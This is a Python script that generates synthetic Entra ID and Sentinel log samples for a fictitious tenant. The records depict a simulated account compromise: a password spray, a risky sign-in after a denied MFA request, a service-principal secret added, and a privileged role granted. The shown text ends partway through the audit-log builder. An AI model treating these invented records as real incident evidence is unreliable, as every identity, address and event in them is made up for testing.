#!/usr/bin/env python3
"""Regenerates every file under samples/ (except README.md and this folder).

All identities, addresses and ids are made up (tenant contoso-lab.example,
documentation IP ranges, GUIDs of the form 00000000-0000-4000-8000-...).
Operation names, alert types, activity names, result codes and field names
follow the real log shapes. Run from anywhere:

    python3 samples/tools/build_samples.py

Output is deterministic: the same script always writes the same bytes.
"""

import json
import os
from datetime import datetime, timedelta, timezone

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# --------------------------------------------------------------------------
# Shared made-up identities
# --------------------------------------------------------------------------

TENANT = "00000000-0000-4000-8000-00000000aad0"
SUB = "00000000-0000-4000-8000-00000000c0de"
DOMAIN = "contoso-lab.example"
AADIAM = f"/tenants/{TENANT}/providers/Microsoft.aadiam"


def gid(suffix):
    """Made-up GUID ending in the given hex suffix."""
    return "00000000-0000-4000-8000-" + suffix.rjust(12, "0")


USERS = {
    "avery": (gid("a1"), "Avery Quinn"),
    "devon": (gid("a2"), "Devon Mercer"),
    "riley": (gid("a3"), "Riley Okafor"),
    "jordan": (gid("a4"), "Jordan Pike"),
    "sam": (gid("a5"), "Sam Ellery"),
    "morgan": (gid("a6"), "Morgan Tate"),
    "casey": (gid("a7"), "Casey Lund"),
    "taylor": (gid("a8"), "Taylor Brooks"),
}
SVC_HELPDESK = (gid("a9"), "Helpdesk Service", f"svc-helpdesk@{DOMAIN}")


def upn(key):
    first, last = USERS[key][1].lower().split(" ")
    return f"{first}.{last}@{DOMAIN}"


# Attacker and office addresses (documentation ranges only).
ATTACKER_IP = "203.0.113.45"
ATTACKER_IP2 = "198.51.100.23"
LEGACY_IP = "198.51.100.77"
OFFICE_IP = "192.0.2.10"
OFFICE_IP2 = "192.0.2.11"
BUILD_IP = "192.0.2.20"

# Real first-party application ids (public facts).
APP_AZURE_PORTAL = ("c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "Azure Portal")
APP_AZ_CLI = ("04b07795-8ddb-461a-bbee-02f9e1bf7b46", "Microsoft Azure CLI")
APP_AAD_PS = ("1b730954-1685-4b74-9bfd-dac224a7b894", "Azure Active Directory PowerShell")
APP_OFFICE = ("d3590ed6-52b3-4102-aeff-aad2292ab01c", "Microsoft Office")
APP_TEAMS = ("1fec8e78-bce4-4aaf-ab1b-5451cc387264", "Microsoft Teams")
APP_EXO = ("00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online")
RES_ARM = ("797f4846-ba00-4fd7-ba43-dac1f8f63013", "Windows Azure Service Management API")
RES_GRAPH = ("00000003-0000-0000-c000-000000000000", "Microsoft Graph")
RES_AAD = ("00000002-0000-0000-c000-000000000000", "Windows Azure Active Directory")
RES_KV = ("cfa8b339-82a2-471a-a3c9-0fc0be7a4093", "Azure Key Vault")
RES_SPO = ("00000003-0000-0ff1-ce00-000000000000", "Office 365 SharePoint Online")

# Tenant's own (made-up) applications.
APP_BACKUP = {"appId": gid("b1"), "spId": gid("b2"), "objectId": gid("b3"), "name": "lab-backup-sync"}
APP_CI = {"appId": gid("b4"), "spId": gid("b5"), "name": "ci-deployer"}
APP_CONSENT = {"appId": gid("b6"), "spId": gid("b7"), "name": "Mail Archive Helper"}
NEW_SECRET_KEY = gid("e1")
NEW_SP_KEY = gid("e2")
CI_KEY = gid("e3")

# Azure resources.
RG = "rg-lab-prod"
RG_ID = f"/subscriptions/{SUB}/resourceGroups/{RG}"
VM_ID = f"{RG_ID}/providers/Microsoft.Compute/virtualMachines/vm-jump01"
NSG_ID = f"{RG_ID}/providers/Microsoft.Network/networkSecurityGroups/nsg-jump01"
SA_ID = f"{RG_ID}/providers/Microsoft.Storage/storageAccounts/stlabfinance01"
KV_ID = f"{RG_ID}/providers/Microsoft.KeyVault/vaults/kv-lab-secrets01"
KV_ARCHIVE_ID = f"{RG_ID}/providers/Microsoft.KeyVault/vaults/kv-lab-archive01"
OWNER_ROLE = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"  # built-in Owner role definition id
WORKSPACE_ID = gid("d0")

# --------------------------------------------------------------------------
# Time helpers (all on 2026-11-20, UTC)
# --------------------------------------------------------------------------


def t(hms, frac=0):
    h, m, s = (int(x) for x in hms.split(":"))
    return datetime(2026, 11, 20, h, m, s, tzinfo=timezone.utc) + timedelta(microseconds=frac // 10)


def ticks_frac(dt, frac7):
    return dt.strftime("%Y-%m-%dT%H:%M:%S") + "." + str(frac7).rjust(7, "0")


def iso7z(hms, frac7):
    """2026-11-20T08:41:03.1234567Z (diagnostic `time`, Graph, ARM)."""
    return ticks_frac(t(hms), frac7) + "Z"


def iso7o(hms, frac7):
    """2026-11-20T08:41:03.1234567+00:00 (diagnostic properties.*DateTime)."""
    return ticks_frac(t(hms), frac7) + "+00:00"


def iso3z(hms, ms):
    return t(hms).strftime("%Y-%m-%dT%H:%M:%S") + "." + str(ms).rjust(3, "0") + "Z"


def us_time(hms):
    """11/20/2026 9:15:02 AM (diagnostic `time` of UserRiskEvents)."""
    d = t(hms)
    hour = d.hour % 12 or 12
    return f"{d.month}/{d.day}/{d.year} {hour}:{d.minute:02d}:{d.second:02d} {'AM' if d.hour < 12 else 'PM'}"


def portal_time(hms, ms):
    """11/20/2026, 9:15:02.123 AM (Sentinel portal CSV export)."""
    d = t(hms)
    hour = d.hour % 12 or 12
    return f"{d.month}/{d.day}/{d.year}, {hour}:{d.minute:02d}:{d.second:02d}.{ms:03d} {'AM' if d.hour < 12 else 'PM'}"


def net_ticks(hms, frac7):
    epoch = datetime(1, 1, 1, tzinfo=timezone.utc)
    delta = t(hms) - epoch
    return (delta.days * 86400 + delta.seconds) * 10_000_000 + frac7


def system_alert_id(hms, suffix):
    """Defender id: DateTime.MaxValue.Ticks minus the start ticks, then a GUID."""
    return f"{3155378975999999999 - net_ticks(hms, 0)}_{gid(suffix)}"


# --------------------------------------------------------------------------
# Writers
# --------------------------------------------------------------------------


def out(rel):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    return path


def write_jsonl(rel, records):
    with open(out(rel), "w", encoding="utf-8", newline="\n") as f:
        for r in records:
            f.write(json.dumps(r, ensure_ascii=False, separators=(",", ":")) + "\n")


def write_json(rel, obj):
    with open(out(rel), "w", encoding="utf-8", newline="\n") as f:
        f.write(json.dumps(obj, ensure_ascii=False, indent=2) + "\n")


def write_records(rel, records):
    """Event Hub body {"records":[...]}, one compact record per line."""
    body = ",\n".join(json.dumps(r, ensure_ascii=False, separators=(",", ":")) for r in records)
    with open(out(rel), "w", encoding="utf-8", newline="\n") as f:
        f.write('{"records":[\n' + body + "\n]}\n")


def csv_cell(value):
    if value is None:
        return ""
    text = str(value)
    if any(c in text for c in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def write_portal_csv(rel, header, rows):
    """Sentinel portal export: UTF-8 BOM, CRLF rows, RFC 4180 quoting."""
    lines = [",".join(csv_cell(h) for h in header)]
    for row in rows:
        missing = [h for h in header if h not in row]
        extra = [k for k in row if k not in header]
        assert not missing and not extra, (rel, missing, extra)
        lines.append(",".join(csv_cell(row[h]) for h in header))
    with open(out(rel), "wb") as f:
        f.write(b"\xef\xbb\xbf" + ("\r\n".join(lines) + "\r\n").encode("utf-8"))


def compact(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


def pretty_crlf(obj):
    """Pretty JSON as Log Analytics writes it into a CSV cell (2 spaces, CRLF)."""
    return json.dumps(obj, ensure_ascii=False, indent=2).replace("\n", "\r\n")



# --------------------------------------------------------------------------
# Entra sign-ins
# --------------------------------------------------------------------------

FAIL_REASON = {
    0: None,
    50126: "Error validating credentials due to invalid username or password.",
    50053: "Account is locked because the user tried to sign in too many times with an incorrect user ID or password.",
    500121: "Authentication failed during strong authentication request.",
    50140: "This sign-in was interrupted by the 'Keep me signed in' prompt.",
}

LOC_OFFICE = {"city": "Seattle", "state": "Washington", "countryOrRegion": "US",
              "geoCoordinates": {"latitude": 47.6062, "longitude": -122.3321}}
LOC_ATTACKER = {"city": "Amsterdam", "state": "Noord-Holland", "countryOrRegion": "NL",
                "geoCoordinates": {"latitude": 52.3676, "longitude": 4.9041}}
LOC_LEGACY = {"city": "Frankfurt am Main", "state": "Hessen", "countryOrRegion": "DE",
              "geoCoordinates": {"latitude": 50.1109, "longitude": 8.6821}}

UA_EDGE = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0")
UA_FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0"
UA_SPRAY = "python-requests/2.32.3"

DEVICE_OFFICE = {"deviceId": gid("dd1"), "displayName": "LAB-WS-0142", "operatingSystem": "Windows 11",
                 "browser": "Edge 131.0.0", "trustType": "Azure AD joined"}
DEVICE_UNKNOWN = {"deviceId": "", "operatingSystem": "Windows 10", "browser": "Firefox 132.0"}
DEVICE_SPRAY = {"deviceId": "", "operatingSystem": "", "browser": "Python Requests 2.32"}
DEVICE_LEGACY = {"deviceId": "", "operatingSystem": "", "browser": ""}

CA_POLICY_MFA = {"id": gid("ca1"), "displayName": "Require MFA for administrators"}
CA_POLICY_LEGACY = {"id": gid("ca2"), "displayName": "Block legacy authentication"}


def ca_results(mfa_result):
    return [{"id": CA_POLICY_MFA["id"], "displayName": CA_POLICY_MFA["displayName"],
             "enforcedGrantControls": ["Mfa"], "enforcedSessionControls": [], "result": mfa_result}]


def signin(n, hms, frac7, user, app, resource, ip, code, *, client="Browser", loc=LOC_OFFICE,
           device=DEVICE_OFFICE, ua=UA_EDGE, auth_req="singleFactorAuthentication", ca_status="notApplied",
           ca=None, risk=None, interactive=True, details=None, corr=None):
    """One sign-in in the shared shape; callers turn it into diag / Graph / Sentinel."""
    uid, display = USERS[user]
    risk = risk or {}
    return {
        "id": gid(f"51{n:02x}"),
        "time": (hms, frac7), "user": user, "userId": uid, "display": display, "upn": upn(user),
        "app": app, "resource": resource, "ip": ip, "code": code, "client": client, "loc": loc,
        "device": device, "ua": ua, "authReq": auth_req, "caStatus": ca_status,
        "ca": ca if ca is not None else ([] if code in (50126, 50053) else ca_results("notApplied")),
        "riskLevel": risk.get("level", "none"), "riskAgg": risk.get("agg", risk.get("level", "none")),
        "riskState": risk.get("state", "none"), "riskTypes": risk.get("types", []),
        "interactive": interactive, "details": details,
        "corr": corr or gid(f"2{n:02x}"),
    }


def without_geo(loc):
    return {k: v for k, v in loc.items() if k != "geoCoordinates"}


def diag_signin(s, category="SignInLogs"):
    hms, frac = s["time"]
    status = {"errorCode": s["code"]}
    if s["code"]:
        status["failureReason"] = FAIL_REASON[s["code"]]
    if s["details"]:
        status["additionalDetails"] = s["details"]
    props = {
        "id": s["id"], "createdDateTime": iso7o(hms, frac),
        "userDisplayName": s["display"], "userPrincipalName": s["upn"], "userId": s["userId"],
        "appId": s["app"][0], "appDisplayName": s["app"][1], "ipAddress": s["ip"],
        "status": status, "clientAppUsed": s["client"], "userAgent": s["ua"],
        "deviceDetail": s["device"], "location": without_geo(s["loc"]), "correlationId": s["corr"],
        "conditionalAccessStatus": s["caStatus"], "appliedConditionalAccessPolicies": s["ca"],
        "isInteractive": s["interactive"],
        "riskDetail": "none", "riskLevelAggregated": s["riskAgg"],
        "riskLevelDuringSignIn": s["riskLevel"], "riskState": s["riskState"],
        "riskEventTypes": s["riskTypes"], "riskEventTypes_v2": s["riskTypes"],
        "resourceDisplayName": s["resource"][1], "resourceId": s["resource"][0],
        "authenticationRequirement": s["authReq"],
    }
    return {
        "time": iso7z(hms, frac), "resourceId": AADIAM, "operationName": "Sign-in activity",
        "category": category, "resultType": str(s["code"]), "resultSignature": "None",
        "callerIpAddress": s["ip"], "correlationId": s["corr"], "identity": s["display"],
        "Level": 4, "location": s["loc"]["countryOrRegion"], "properties": props,
    }


def graph_signin(s):
    hms, frac = s["time"]
    loc = dict(s["loc"])
    loc["geoCoordinates"] = dict(loc["geoCoordinates"], altitude=None)
    device = {"deviceId": s["device"].get("deviceId", ""), "displayName": s["device"].get("displayName"),
              "operatingSystem": s["device"].get("operatingSystem"), "browser": s["device"].get("browser"),
              "isCompliant": s["device"].get("isCompliant"), "isManaged": s["device"].get("isManaged"),
              "trustType": s["device"].get("trustType")}
    return {
        "id": s["id"], "createdDateTime": iso7z(hms, frac),
        "userDisplayName": s["display"], "userPrincipalName": s["upn"], "userId": s["userId"],
        "appId": s["app"][0], "appDisplayName": s["app"][1], "ipAddress": s["ip"],
        "clientAppUsed": s["client"], "correlationId": s["corr"],
        "conditionalAccessStatus": s["caStatus"], "isInteractive": s["interactive"],
        "riskDetail": "none", "riskLevelAggregated": s["riskAgg"],
        "riskLevelDuringSignIn": s["riskLevel"], "riskState": s["riskState"],
        "riskEventTypes": s["riskTypes"], "riskEventTypes_v2": s["riskTypes"],
        "resourceDisplayName": s["resource"][1], "resourceId": s["resource"][0],
        "status": {"errorCode": s["code"], "failureReason": FAIL_REASON[s["code"]],
                   "additionalDetails": s["details"]},
        "deviceDetail": device, "location": loc,
        "appliedConditionalAccessPolicies": [
            {k: p[k] for k in ("id", "displayName", "enforcedGrantControls", "enforcedSessionControls", "result")}
            for p in s["ca"]],
    }


SPRAY_TARGETS = ["riley", "jordan", "sam", "morgan", "taylor", "avery"]

AVERY_MORNING = signin(1, "08:05:12", 4718203, "avery", APP_AZURE_PORTAL, RES_ARM, OFFICE_IP, 0,
                       auth_req="multiFactorAuthentication", ca_status="success",
                       ca=ca_results("success"))
SPRAY = [
    signin(2 + i, f"08:41:{3 + 7 * i:02d}", 1180000 + 90731 * i, user, APP_AAD_PS, RES_AAD, ATTACKER_IP, 50126,
           client="Mobile Apps and Desktop clients", loc=LOC_ATTACKER, device=DEVICE_SPRAY, ua=UA_SPRAY)
    for i, user in enumerate(SPRAY_TARGETS)
]
CASEY_LOCKED = signin(8, "08:41:52", 6021544, "casey", APP_AAD_PS, RES_AAD, ATTACKER_IP, 50053,
                      client="Mobile Apps and Desktop clients", loc=LOC_ATTACKER, device=DEVICE_SPRAY, ua=UA_SPRAY)
DEVON_MFA_DENIED = signin(9, "08:45:40", 3390127, "devon", APP_AZURE_PORTAL, RES_ARM, ATTACKER_IP, 500121,
                          loc=LOC_ATTACKER, device=DEVICE_UNKNOWN, ua=UA_FIREFOX,
                          auth_req="multiFactorAuthentication", ca_status="failure",
                          ca=ca_results("failure"),
                          details="MFA denied; user declined the authentication request.",
                          corr=gid("2a0"))
DEVON_RISKY = signin(10, "08:47:15", 8804412, "devon", APP_AZURE_PORTAL, RES_ARM, ATTACKER_IP, 0,
                     loc=LOC_ATTACKER, device=DEVICE_UNKNOWN, ua=UA_FIREFOX,
                     auth_req="multiFactorAuthentication", ca_status="success",
                     ca=ca_results("success"),
                     risk={"level": "high", "state": "atRisk",
                           "types": ["unfamiliarFeatures", "anonymizedIPAddress"]},
                     corr=gid("2a0"))
SAM_IMAP = signin(11, "09:50:05", 2275036, "sam", APP_EXO, APP_EXO, LEGACY_IP, 0,
                  client="IMAP4", loc=LOC_LEGACY, device=DEVICE_LEGACY, ua="BAV2ROPC")
TAYLOR_TEAMS = signin(12, "10:15:30", 5120988, "taylor", APP_TEAMS, RES_SPO, OFFICE_IP2, 0,
                      client="Mobile Apps and Desktop clients",
                      auth_req="multiFactorAuthentication", ca_status="success",
                      ca=ca_results("success"))
# Graph-only records.
MORGAN_OFFICE = signin(13, "11:20:44", 7310562, "morgan", APP_OFFICE, RES_GRAPH, OFFICE_IP, 0,
                       client="Mobile Apps and Desktop clients",
                       auth_req="multiFactorAuthentication", ca_status="success",
                       ca=ca_results("success"))
AVERY_KMSI = signin(14, "11:35:02", 1457730, "avery", APP_AZURE_PORTAL, RES_ARM, OFFICE_IP, 50140,
                    auth_req="multiFactorAuthentication", ca_status="success",
                    ca=ca_results("success"))


def build_signins():
    records = [AVERY_MORNING, *SPRAY, CASEY_LOCKED, DEVON_MFA_DENIED, DEVON_RISKY, SAM_IMAP, TAYLOR_TEAMS]
    write_jsonl("entra-signins/diagnostic-signinlogs.jsonl", [diag_signin(s) for s in records])
    write_json("entra-signins/graph-signins-page.json", {
        "@odata.context": "https://graph.microsoft.com/v1.0/$metadata#auditLogs/signIns",
        "value": [graph_signin(s) for s in (DEVON_RISKY, MORGAN_OFFICE, AVERY_KMSI)],
    })


def sentinel_noninteractive(s, incoming="refreshToken"):
    hms, frac = s["time"]
    status = {"errorCode": s["code"]}
    if s["code"]:
        status["failureReason"] = FAIL_REASON[s["code"]]
    return {
        "TenantId": TENANT, "SourceSystem": "Azure AD", "TimeGenerated": iso7z(hms, frac),
        "ResourceId": AADIAM, "OperationName": "Sign-in activity", "OperationVersion": "1.0",
        "Category": "NonInteractiveUserSignInLogs", "ResultType": str(s["code"]),
        "ResultSignature": "None", "ResultDescription": FAIL_REASON[s["code"]] or "", "DurationMs": 0,
        "CorrelationId": s["corr"], "Identity": s["display"], "Level": "4",
        "Location": s["loc"]["countryOrRegion"], "AppDisplayName": s["app"][1], "AppId": s["app"][0],
        "AuthenticationRequirement": s["authReq"], "ClientAppUsed": s["client"],
        "ConditionalAccessStatus": s["caStatus"], "CreatedDateTime": iso7z(hms, frac),
        "DeviceDetail": compact(s["device"]), "IsInteractive": False, "Id": s["id"],
        "IPAddress": s["ip"], "LocationDetails": compact(s["loc"]), "OriginalRequestId": s["id"],
        "ProcessingTimeInMs": "38", "ResourceDisplayName": s["resource"][1],
        "ResourceIdentity": s["resource"][0], "RiskDetail": "none",
        "RiskEventTypes": compact(s["riskTypes"]), "RiskEventTypes_V2": compact(s["riskTypes"]),
        "RiskLevelAggregated": s["riskAgg"], "RiskLevelDuringSignIn": s["riskLevel"],
        "RiskState": s["riskState"], "Status": compact(status), "TokenIssuerType": "AzureAD",
        "UserAgent": s["ua"], "UserDisplayName": s["display"], "UserId": s["userId"],
        "UserPrincipalName": s["upn"], "UserType": "Member", "IncomingTokenType": incoming,
        "AuthenticationProtocol": "none", "HomeTenantId": TENANT, "ResourceTenantId": TENANT,
        "Type": "AADNonInteractiveUserSignInLogs",
    }


UA_AZCLI = "python/3.12.7 (Linux-6.8.0-1017-azure-x86_64-with-glibc2.39) AZURECLI/2.67.0"


def build_noninteractive():
    rows = [
        signin(21, "08:12:40", 6603175, "avery", APP_OFFICE, RES_GRAPH, OFFICE_IP, 0,
               client="Mobile Apps and Desktop clients", auth_req="multiFactorAuthentication",
               ca_status="success", interactive=False, corr=gid("221")),
        signin(22, "08:58:21", 2049336, "devon", APP_AZ_CLI, RES_ARM, ATTACKER_IP, 0,
               client="Mobile Apps and Desktop clients", loc=LOC_ATTACKER, device=DEVICE_LEGACY,
               ua=UA_AZCLI, ca_status="notApplied", interactive=False,
               risk={"level": "high", "state": "atRisk", "types": ["anonymizedIPAddress"]}, corr=gid("222")),
        signin(23, "09:34:50", 9160083, "devon", APP_AZ_CLI, RES_KV, ATTACKER_IP, 0,
               client="Mobile Apps and Desktop clients", loc=LOC_ATTACKER, device=DEVICE_LEGACY,
               ua=UA_AZCLI, ca_status="notApplied", interactive=False,
               risk={"level": "none", "agg": "high", "state": "atRisk"}, corr=gid("222")),
    ]
    write_json("entra-signins/sentinel-aadnoninteractive.json", [sentinel_noninteractive(s) for s in rows])


def sp_signin(hms, frac7, app, ip, code, loc, key_id, n):
    status = {"errorCode": code}
    if code:
        status["failureReason"] = "Invalid client secret provided."
    return {
        "time": iso7z(hms, frac7), "resourceId": AADIAM, "operationName": "Sign-in activity",
        "operationVersion": "1.0", "category": "ServicePrincipalSignInLogs", "tenantId": TENANT,
        "resultType": str(code), "resultSignature": "None", "durationMs": 0, "callerIpAddress": ip,
        "correlationId": gid(f"3{n:02x}"), "Level": 4, "location": loc["countryOrRegion"],
        "properties": {
            "id": gid(f"53{n:02x}"), "createdDateTime": iso7o(hms, frac7), "userId": None,
            "appId": app["appId"], "ipAddress": ip, "status": status, "location": loc,
            "correlationId": gid(f"3{n:02x}"), "conditionalAccessStatus": "notApplied",
            "appliedConditionalAccessPolicies": [], "isInteractive": False, "tokenIssuerType": "AzureAD",
            "processingTimeInMilliseconds": 0, "riskDetail": "none", "riskLevelAggregated": "none",
            "riskLevelDuringSignIn": "none", "riskState": "none",
            "resourceDisplayName": RES_ARM[1], "resourceId": RES_ARM[0],
            "servicePrincipalName": app["name"], "servicePrincipalId": app["spId"],
            "servicePrincipalCredentialKeyId": key_id, "flaggedForReview": False,
            "isTenantRestricted": False, "crossTenantAccessType": "none",
            "incomingTokenType": "none", "authenticationProtocol": "none",
        },
    }


def build_serviceprincipal():
    write_jsonl("entra-signins/diagnostic-serviceprincipal.jsonl", [
        sp_signin("08:20:07", 3310496, APP_CI, BUILD_IP, 0, LOC_OFFICE, CI_KEY, 1),
        sp_signin("09:07:10", 6645120, APP_BACKUP, ATTACKER_IP2, 7000215, LOC_ATTACKER, "", 2),
        sp_signin("09:08:02", 1178844, APP_BACKUP, ATTACKER_IP2, 0, LOC_ATTACKER, NEW_SECRET_KEY, 3),
    ])


# --------------------------------------------------------------------------
# Entra risk
# --------------------------------------------------------------------------

RISK_UNFAMILIAR_ID = "7c1f0e9a3b5d48c2a6e4f1b09d3c5a7e8b2f4d6c1a9e3b5f7d0c2e4a6b8d1f3e"
RISK_ANON_ID = "2e8b4d6f0a1c3e5b7d9f1a3c5e7b9d0f2a4c6e8b1d3f5a7c9e0b2d4f6a8c1e3b"
RISK_SPRAY_ID = "9d3f5b7a1c2e4d6f8a0b1c3e5d7f9a2b4c6e8d0f1a3b5c7e9d2f4a6b8c0e1d3f"
RISK_LEAKED_ID = "4a6c8e0b2d4f6a8c1e3b5d7f9a0c2e4b6d8f1a3c5e7b9d2f4a6c8e0b1d3f5a7c"


def ua_info(ua):
    return compact([{"Key": "userAgent", "Value": ua}])


def graph_risk(rid, kind, detected, updated):
    s = DEVON_RISKY
    hms, frac = s["time"]
    loc = dict(LOC_ATTACKER)
    loc["geoCoordinates"] = dict(loc["geoCoordinates"], altitude=0)
    return {
        "id": rid, "requestId": s["id"], "correlationId": s["corr"], "riskEventType": kind,
        "riskState": "atRisk", "riskLevel": "high" if kind == "anonymizedIPAddress" else "medium",
        "riskDetail": "none", "source": "IdentityProtection", "detectionTimingType": "realtime",
        "activity": "signin", "tokenIssuerType": "AzureAD", "ipAddress": s["ip"],
        "activityDateTime": iso7z(hms, frac), "detectedDateTime": detected,
        "lastUpdatedDateTime": updated, "userId": s["userId"], "userDisplayName": s["display"],
        "userPrincipalName": s["upn"], "additionalInfo": ua_info(s["ua"]), "location": loc,
    }


UNFAMILIAR_DETECTED = ("08:47:16", 2201937)
UNFAMILIAR_UPDATED = ("08:49:02", 5187311)


def build_risk():
    write_json("entra-risk/graph-riskdetections.json", {
        "@odata.context": "https://graph.microsoft.com/v1.0/$metadata#riskDetections",
        "value": [
            graph_risk(RISK_UNFAMILIAR_ID, "unfamiliarFeatures", iso7z(*UNFAMILIAR_DETECTED), iso7z(*UNFAMILIAR_UPDATED)),
            graph_risk(RISK_ANON_ID, "anonymizedIPAddress", iso7z("08:47:19", 6402218), iso7z("08:50:31", 904417)),
        ],
    })

    def diag(time_hms, rid, props_user, props):
        uid, display = USERS[props_user]
        envelope = {
            "time": us_time(time_hms), "resourceId": f"/tenants/{TENANT}/providers/microsoft.aadiam",
            "operationName": "User Risk Detection", "operationVersion": "1.0", "category": "UserRiskEvents",
            "tenantId": TENANT, "resultSignature": "None", "durationMs": 0,
        }
        if props.get("ipAddress"):
            envelope["callerIpAddress"] = props["ipAddress"]
        envelope.update({"correlationId": rid, "identity": display.lower(), "Level": 4,
                         "location": (props.get("location") or {}).get("countryOrRegion", "us").lower()})
        envelope["properties"] = dict(
            {"id": rid}, **props, userId=uid, userDisplayName=display, userPrincipalName=upn(props_user),
            tokenIssuerType="AzureAD", resourceTenantId=None, homeTenantId=TENANT, userType="member",
            crossTenantAccessType="none")
        return envelope

    s = DEVON_RISKY
    loc = dict(LOC_ATTACKER)
    loc["geoCoordinates"] = dict(loc["geoCoordinates"], altitude=0)
    signin_props = {"requestId": s["id"], "correlationId": s["corr"]}
    write_jsonl("entra-risk/diagnostic-userriskevents.jsonl", [
        diag("08:49:02", RISK_UNFAMILIAR_ID, "devon", dict(
            signin_props, riskType="unfamiliarFeatures", riskEventType="unfamiliarFeatures",
            riskState="atRisk", riskLevel="medium", riskDetail="none", source="IdentityProtection",
            detectionTimingType="realtime", activity="signin", ipAddress=s["ip"], location=loc,
            activityDateTime=iso3z("08:47:15", 880), detectedDateTime=iso3z(UNFAMILIAR_DETECTED[0], 220),
            lastUpdatedDateTime=iso3z(UNFAMILIAR_UPDATED[0], 518), additionalInfo=ua_info(s["ua"]))),
        diag("10:02:33", RISK_SPRAY_ID, "devon", dict(
            signin_props, riskType="generic", riskEventType="passwordSpray",
            riskState="atRisk", riskLevel="high", riskDetail="none", source="IdentityProtection",
            detectionTimingType="offline", activity="signin", ipAddress=s["ip"], location=loc,
            activityDateTime=iso3z("08:47:15", 880),
            # One-digit hour, as Identity Protection really writes it in these records.
            detectedDateTime="2026-11-20T9:58:41.207Z",
            lastUpdatedDateTime=iso3z("10:02:33", 614), additionalInfo=ua_info(s["ua"]))),
        diag("11:12:08", RISK_LEAKED_ID, "riley", dict(
            requestId=None, correlationId=None, riskType="leakedCredentials",
            riskEventType="leakedCredentials", riskState="atRisk", riskLevel="high", riskDetail="none",
            source="IdentityProtection", detectionTimingType="offline", activity="user", ipAddress=None,
            location=None, activityDateTime=iso3z("10:40:00", 0), detectedDateTime=iso3z("11:09:55", 301),
            lastUpdatedDateTime=iso3z("11:12:08", 77), additionalInfo="[]")),
    ])


# --------------------------------------------------------------------------
# Entra audit
# --------------------------------------------------------------------------

def by_user(key, ip):
    uid, display = USERS[key]
    return {"user": {"id": uid, "displayName": display, "userPrincipalName": upn(key),
                     "ipAddress": ip, "roles": []}}


def by_app(app):
    return {"app": {"appId": app["appId"], "displayName": app["name"],
                    "servicePrincipalId": app["spId"], "servicePrincipalName": app["name"]}}


def mp(name, old, new):
    return {"displayName": name, "oldValue": old, "newValue": new}


def target(tid, name, ttype, props=(), tupn=None):
    return {"id": tid, "displayName": name, "type": ttype, "userPrincipalName": tupn,
            "modifiedProperties": list(props)}


def included(*names):
    return mp("Included Updated Properties", "", compact(", ".join(names)))


def ca_policy_json(policy, state, modified_hms):
    body = {
        "id": policy["id"], "displayName": policy["displayName"],
        "createdDateTime": "2026-03-02T14:11:09.4415702+00:00",
        "modifiedDateTime": iso7o(modified_hms, 0) if modified_hms else "2026-06-18T09:02:47.1183025+00:00",
        "state": state,
        "conditions": {
            "applications": {"includeApplications": ["All"]},
            "users": {"includeRoles": ["62e90394-69f5-4237-9190-012177145e10", "194ae4cb-b126-40b2-bd5b-6091b380977d"],
                      "excludeUsers": [USERS["avery"][0]]},
            "clientAppTypes": ["all"] if policy is CA_POLICY_MFA else ["exchangeActiveSync", "other"],
        },
        "grantControls": {"operator": "OR", "builtInControls": ["mfa" if policy is CA_POLICY_MFA else "block"]},
    }
    return compact(body)


UA_DETAIL = {"key": "User-Agent", "value": UA_FIREFOX}


def audit(n, hms, frac7, activity, category, service, op_type, initiator, targets, details=None,
          caller_ip=ATTACKER_IP, identity="Devon Mercer"):
    corr = gid(f"4{n:02x}")
    return {
        "time": iso7z(hms, frac7), "resourceId": AADIAM, "operationName": activity,
        "operationVersion": "1.0", "category": "AuditLogs", "tenantId": TENANT,
        "resultSignature": "None", "durationMs": 0, "callerIpAddress": caller_ip,
        "correlationId": corr, "identity": identity, "Level": 4,
        "properties": {
            "id": f"Directory_{corr}_{'7QK2D3A8F1'[n % 5:n % 5 + 5]}_{41250300 + n * 37}",
            "category": category, "correlationId": corr, "result": "success", "resultReason": "",
            "activityDisplayName": activity, "activityDateTime": iso7o(hms, frac7),
            "loggedByService": service, "operationType": op_type, "initiatedBy": initiator,
            "targetResources": targets,
            "additionalDetails": details if details is not None else [UA_DETAIL],
        },
    }


GA_TEMPLATE = "62e90394-69f5-4237-9190-012177145e10"   # Global Administrator (built-in)
PRA_TEMPLATE = "e8611ab8-c189-46e8-94e1-60213ab1f814"  # Privileged Role Administrator (built-in)


def role_targets(role_name, template, well_known=None):
    props = [
        mp("Role.ObjectID", "", compact(gid("f1" if template == GA_TEMPLATE else "f2"))),
        mp("Role.DisplayName", "", compact(role_name)),
        mp("Role.TemplateId", "", compact(template)),
    ]
    if well_known:
        props.append(mp("Role.WellKnownObjectName", "", compact(well_known)))
    return [
        target(SVC_HELPDESK[0], None, "User", props, SVC_HELPDESK[2]),
        target(gid("f1" if template == GA_TEMPLATE else "f2"), None, "Role"),
    ]


def build_audit():
    devon = by_user("devon", ATTACKER_IP)
    key_new = f"[KeyIdentifier={NEW_SECRET_KEY},KeyType=Password,KeyUsage=Verify,DisplayName=sync-rotation]"
    key_sp = f"[KeyIdentifier={NEW_SP_KEY},KeyType=Password,KeyUsage=Verify,DisplayName=]"
    key_ci = f"[KeyIdentifier={CI_KEY},KeyType=Password,KeyUsage=Verify,DisplayName=pipeline-2026]"
    records = [
        audit(1, "08:30:11", 2019447, "Update group", "GroupManagement", "Core Directory", "Update",
              by_user("avery", OFFICE_IP), [target(gid("c1"), "Lab Engineers", "Group", [
                  mp("Description", compact(["Lab engineering team"]), compact(["Lab engineering team, building 2"])),
                  included("Description")])],
              details=[], caller_ip=OFFICE_IP, identity="Avery Quinn"),
        audit(2, "09:02:14", 5530129, "Add user", "UserManagement", "Core Directory", "Add", devon,
              [target(SVC_HELPDESK[0], None, "User", [
                  mp("AccountEnabled", "[]", "[true]"),
                  mp("DisplayName", "[]", compact([SVC_HELPDESK[1]])),
